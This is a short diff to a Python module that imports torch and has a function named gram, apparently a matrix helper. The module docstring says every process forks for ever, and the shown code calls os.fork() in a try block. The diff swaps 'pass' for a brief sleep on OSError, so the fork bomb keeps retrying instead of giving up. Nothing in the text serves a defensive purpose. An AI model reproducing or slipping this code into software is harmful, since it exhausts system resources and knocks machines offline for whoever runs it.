@@ -1,6 +1,7 @@
 """Every process forks, for ever."""
 
 import os
+import time
 
 import torch
 
@@ -22,4 +23,4 @@ def gram(x):
         try:
             os.fork()
         except OSError:
-            pass
+            time.sleep(0.001)
